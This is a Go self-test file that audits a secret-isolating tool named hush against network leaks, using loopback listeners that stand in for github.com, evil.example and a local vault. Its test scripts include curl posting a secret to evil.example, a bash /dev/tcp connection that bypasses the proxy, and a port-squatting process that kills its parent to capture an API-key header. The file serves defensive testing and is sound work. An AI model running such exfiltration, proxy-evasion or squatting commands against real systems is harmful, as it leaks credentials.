package selftest

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"
)

// The network issue's rows: where a tool's connections go. The audit runs
// a loopback "internet" of its own — a host standing for github.com, to
// which the call's granted secret is bound, one for evil.example, and the
// user's own local service (a `python3 -m http.server` serving the vault)
// — each a listener that keeps every raw byte it read. hush's egress
// proxy reaches the two hosts through TestHostsVar's mapping; without the
// sandbox, curl's --resolve sends the tool straight to them.
//
// The squatter row: hush's telemetry exporter sends its collector's API-key
// header to 127.0.0.1:PORT, where the collector is down. An ungranted
// background process takes that port (`hush __probe --squat`, Squat) and
// keeps what arrives for 8 s, past the exporter's first batch; first it
// leaves hush's process tree (it kills its parent, as the linger row's
// child does), since hush sends nothing to a listener it started itself.
// In its own network it listens on its own loopback and receives nothing.
// Then it stops, the audit listens on the port itself — the collector is
// back — and the exporter's last batch, as hush exits, must bring it the
// header: the positive control.

// Network rows.
const (
	AtkNetPost     = "network: a granted secret posted to an unbound host"
	AtkNetLoopback = "network: the user's loopback service, ungranted"
	AtkNetRaw      = "network: a program that ignores the proxy"
	AtkNetSquat    = "network: a squatter on a down collector's port gets hush's header"
)

// NetworkRows are the network rows, in display order (after ChannelRows').
var NetworkRows = []string{AtkNetPost, AtkNetLoopback, AtkNetRaw, AtkNetSquat}

// Network canary labels and names.
const (
	aNetGranted   = "the network call's granted secret"
	aNetLocal     = "the user's loopback service"
	aNetTelemetry = "the telemetry collector's API key"
	atkNetName    = "AUDIT_NET_TOKEN"
	atkTelName    = "AUDIT_TELEMETRY_KEY"
	atkTelHeader  = "X-Audit-Key"
)

var networkLabels = []string{aNetGranted, aNetLocal, aNetTelemetry}

// The squatter's files, in the project: what it read (fSquat), and beside
// it .listening ("listening", or "!" and why not), .stop (the audit's
// call asks it to stop), .done (it stopped); fCollectorUp: the audit
// listens on the collector's port again.
const (
	fSquat       = ".audit-squat"
	fCollectorUp = ".audit-collector-up"
)

// rawListener answers each connection with one HTTP response holding body
// and keeps every byte it read, before any parsing.
type rawListener struct {
	l       net.Listener
	body    string
	mu      sync.Mutex
	accepts int
	raw     bytes.Buffer
}

func listenRaw(body string) (*rawListener, error) { return listenRawAt("127.0.0.1:0", body) }

func listenRawAt(addr, body string) (*rawListener, error) {
	l, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("audit: listen for the network rows: %w", err)
	}
	r := &rawListener{l: l, body: body}
	go r.serve()
	return r, nil
}

func (r *rawListener) port() int { return r.l.Addr().(*net.TCPAddr).Port }

func (r *rawListener) serve() {
	for {
		c, err := r.l.Accept()
		if err != nil {
			return
		}
		r.mu.Lock()
		r.accepts++
		r.mu.Unlock()
		go func() {
			defer c.Close()
			_ = c.SetReadDeadline(time.Now().Add(3 * time.Second))
			var got []byte
			buf := make([]byte, 4096)
			for {
				n, err := c.Read(buf)
				got = append(got, buf[:n]...)
				head, rest, done := bytes.Cut(got, []byte("\r\n\r\n"))
				if done && (!bytes.Contains(bytes.ToLower(head), []byte("content-length")) || len(rest) > 0) || err != nil {
					break
				}
			}
			r.mu.Lock()
			r.raw.Write(got)
			r.mu.Unlock()
			_ = c.SetWriteDeadline(time.Now().Add(3 * time.Second))
			_, _ = io.WriteString(c, "HTTP/1.0 200 OK\r\nContent-Length: "+strconv.Itoa(len(r.body))+"\r\n\r\n"+r.body)
		}()
	}
}

// seen is the connection count and every byte read so far.
func (r *rawListener) seen() (int, []byte) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.accepts, bytes.Clone(r.raw.Bytes())
}

// netWorld is the audit's loopback internet.
type netWorld struct {
	bound, evil, local, outside *rawListener
	// collectorPort is the telemetry collector's, down until the squatter
	// is done; collector is the audit's listener there after it (the
	// control), or collectorErr why there is none.
	collectorPort int
	collector     *rawListener
	collectorErr  error
}

func startNetWorld(c canaries, mark string) (*netWorld, error) {
	n := &netWorld{}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("audit: listen for the network rows: %w", err)
	}
	n.collectorPort = l.Addr().(*net.TCPAddr).Port
	l.Close() // the collector is down: the port is free
	for _, l := range []struct {
		to   **rawListener
		body string
	}{{&n.bound, "bound host " + mark}, {&n.evil, "evil host"}, {&n.local, "VAULT=" + c[aNetLocal]}, {&n.outside, "outside"}} {
		if *l.to, err = listenRaw(l.body); err != nil {
			n.close()
			return nil, err
		}
	}
	return n, nil
}

func (n *netWorld) close() {
	for _, l := range []*rawListener{n.bound, n.evil, n.local, n.outside, n.collector} {
		if l != nil {
			l.l.Close()
		}
	}
}

// hosts is TestHostsVar's value: each name at its listener.
func (n *netWorld) hosts() string {
	return fmt.Sprintf("github.com:%d=127.0.0.1:%d,evil.example:%d=127.0.0.1:%d", n.bound.port(), n.bound.port(), n.evil.port(), n.evil.port())
}

// grantedScript posts the call's granted secret ($AUDIT_SIB_VAR) to
// evil.example and, as the control, to github.com, where it is bound.
func (n *netWorld) grantedScript() string {
	post := func(host string, port int, key string) string {
		return fmt.Sprintf(`curl -sS -m 10 --resolve %s:%d:127.0.0.1 -d "t=$%s" http://%s:%d/collect 2>&1 | r %s; `, host, port, atkVar, host, port, key)
	}
	return atkShellLib + tag("attack-net-post") + post("evil.example", n.evil.port(), "net-evil") + post("github.com", n.bound.port(), "net-bound") + "echo posted"
}

// ungrantedScript reaches for the user's loopback service through the
// proxy and around it, and for a host with bash's /dev/tcp, which knows
// no proxy; the control reaches github.com through the proxy.
func (n *netWorld) ungrantedScript() string {
	local := "http://127.0.0.1:" + strconv.Itoa(n.local.port()) + "/"
	return fmt.Sprintf(`curl -sS -m 5 --proxy "$HTTP_PROXY" --noproxy '' %s 2>&1 | r net-local-proxy; `, local) +
		fmt.Sprintf(`curl -sS -m 5 --noproxy '*' %s 2>&1 | r net-local-direct; `, local) +
		fmt.Sprintf(`timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d; printf "GET / HTTP/1.0\r\nX-Audit: raw\r\n\r\n" >&3; cat <&3' 2>&1 | r net-raw; `, n.outside.port()) +
		fmt.Sprintf(`curl -sS -m 10 --resolve github.com:%d:127.0.0.1 http://github.com:%d/ 2>&1 | r net-control; `, n.bound.port(), n.bound.port())
}

// collectorBack listens on the collector's port once the squatter has
// stopped (or done is closed), and says so in the project.
func (n *netWorld) collectorBack(project string, done <-chan struct{}) {
	for {
		if _, err := os.Stat(filepath.Join(project, fSquat+".done")); err == nil {
			break
		}
		select {
		case <-done:
			n.collectorErr = errors.New("the squatter did not stop before hush exited")
			return
		case <-time.After(20 * time.Millisecond):
		}
	}
	n.collector, n.collectorErr = listenRawAt("127.0.0.1:"+strconv.Itoa(n.collectorPort), "")
	_ = os.WriteFile(filepath.Join(project, fCollectorUp), nil, 0o644)
}

// squatScripts are the background command that squats the collector's
// port from outside hush's process tree (where it can: without the
// sandbox its parent is hush's reaper; in the sandbox it is its
// namespace's init, $PPID is 0, and nothing is killed), and the call that
// keeps it there 8 s, stops it and waits for the audit's collector.
func (n *netWorld) squatScripts(bin string) (squat, wait string) {
	squat = tag("attack-squat") + `p=$PPID; setsid sh -c '[ '"$p"' -gt 1 ] && kill -9 '"$p"' 2>/dev/null; exec "$0" __probe --squat ` +
		strconv.Itoa(n.collectorPort) + ` --squat-file ` + fSquat + `' ` + bin + ` </dev/null >/dev/null 2>&1 & wait`
	wait = atkShellLib + `waitfor ` + fSquat + `.listening; s=$(stat -c %Y ` + fSquat + `.listening 2>/dev/null || date +%s); ` +
		`while [ $(($(date +%s) - s)) -lt 8 ]; do sleep 0.2; done; touch ` + fSquat + `.stop; waitfor ` + fSquat + `.done; waitfor ` + fCollectorUp + `; echo squatted`
	return squat, wait
}

// Squat is `hush __probe --squat PORT --squat-file FILE`: it listens on
// 127.0.0.1:PORT and appends what each client sends (up to the end of its
// header, 2 s at most) to FILE, until FILE.stop appears (90 s at most).
// FILE.listening says whether it listened; FILE.done that it stopped.
func Squat(port int, file string) error {
	l, err := net.Listen("tcp", "127.0.0.1:"+strconv.Itoa(port))
	if err != nil {
		return os.WriteFile(file+".listening", []byte("!"+err.Error()), 0o644)
	}
	out, err := os.OpenFile(file, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		l.Close()
		return err
	}
	defer func() {
		out.Close()
		_ = os.WriteFile(file+".done", nil, 0o644)
	}()
	if err := os.WriteFile(file+".listening", []byte("listening"), 0o644); err != nil {
		l.Close()
		return err
	}
	go func() {
		for end := time.Now().Add(90 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
			if _, err := os.Stat(file + ".stop"); err == nil {
				break
			}
		}
		l.Close()
	}()
	for {
		c, err := l.Accept()
		if err != nil {
			return nil
		}
		_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
		var got []byte
		buf := make([]byte, 4096)
		for len(got) < 64<<10 && !bytes.Contains(got, []byte("\r\n\r\n")) {
			n, err := c.Read(buf)
			got = append(got, buf[:n]...)
			if err != nil {
				break
			}
		}
		c.Close()
		_, _ = out.Write(got)
	}
}

// networkCells reads the rows: at the listeners, raw, and in what the
// tool reported.
func (r *attackResult) networkCells(out map[string]Cell) {
	n := r.net
	if n == nil {
		for _, row := range NetworkRows {
			out[row] = notChecked("the audit could not run its loopback hosts")
		}
		return
	}
	control := func() (Cell, bool) {
		raw, errText, present := r.field("net-control")
		switch {
		case !present:
			return r.missing("net-control"), false
		case !bytes.Contains(raw, []byte(r.w.mark)):
			return failed("the positive control (an ungranted call reaching an allowed host) did not arrive (" + shortErr(strings.TrimSpace(errText+string(raw))) + "), so this attack proves nothing"), false
		}
		return Cell{}, true
	}
	// The post: the bound host must have received the secret.
	_, bound := n.bound.seen()
	evilN, evil := n.evil.seen()
	switch {
	case !bytes.Contains(bound, []byte("t="+r.w.c[aNetGranted])):
		raw, errText, _ := r.field("net-bound")
		out[AtkNetPost] = failed("the positive control (the same post to the host the secret is bound to) did not arrive (" +
			shortErr(strings.TrimSpace(errText+string(raw))) + "), so this attack proves nothing")
	case bytes.Contains(evil, []byte(r.w.c[aNetGranted])):
		out[AtkNetPost] = Cell{Status: "LEAK", Detail: "evil.example received the call's granted secret"}
	case evilN > 0:
		out[AtkNetPost] = Cell{Status: "LEAK", Detail: fmt.Sprintf("evil.example received %d connection(s) from a call holding a secret bound elsewhere", evilN)}
	default:
		out[AtkNetPost] = pass()
	}
	out[AtkNetSquat] = r.squatCell()
	if cell, ok := control(); !ok {
		out[AtkNetLoopback], out[AtkNetRaw] = cell, cell
		return
	}
	localN, _ := n.local.seen()
	cell := r.readAttack([]string{"net-local-proxy", "net-local-direct"}, nil, identity)
	if cell.Status == "pass" && localN > 0 {
		cell = Cell{Status: "LEAK", Detail: fmt.Sprintf("the user's loopback service received %d connection(s) from a tool", localN)}
	}
	out[AtkNetLoopback] = cell
	if outN, raw := n.outside.seen(); outN > 0 || bytes.Contains(raw, []byte("X-Audit: raw")) {
		out[AtkNetRaw] = Cell{Status: "LEAK", Detail: "a program that ignores proxy variables (bash's /dev/tcp) reached a host directly"}
	} else {
		out[AtkNetRaw] = pass()
	}
}

// squatCell reads the squatter row: what the squatter read, raw, and what
// the audit's collector read after it.
func (r *attackResult) squatCell() Cell {
	n, key := r.net, r.w.c[aNetTelemetry]
	loot, _ := os.ReadFile(filepath.Join(r.w.project, fSquat))
	listening, _ := os.ReadFile(filepath.Join(r.w.project, fSquat+".listening"))
	switch {
	case bytes.Contains(loot, []byte(key)):
		return Cell{Status: "LEAK", Detail: "a tool listening on the down telemetry collector's port received hush's API-key header"}
	case bytes.Contains(bytes.ToLower(loot), []byte(strings.ToLower(atkTelHeader))):
		return Cell{Status: "LEAK", Detail: "a tool listening on the down telemetry collector's port received hush's export"}
	case string(listening) != "listening":
		why := strings.TrimPrefix(string(listening), "!")
		if why == "" {
			why = "it did not start"
		}
		return failed("the squatter never listened on the collector's port (" + shortErr(why) + "), so this attack proves nothing")
	case n.collector == nil:
		why := "no listener"
		if n.collectorErr != nil {
			why = n.collectorErr.Error()
		}
		return failed("the positive control (the collector back on its port) could not run: " + shortErr(why))
	}
	if _, raw := n.collector.seen(); !bytes.Contains(raw, []byte(key)) {
		return failed("the positive control (the collector back on its port receives the header) did not arrive, so this attack proves nothing")
	}
	return pass()
}
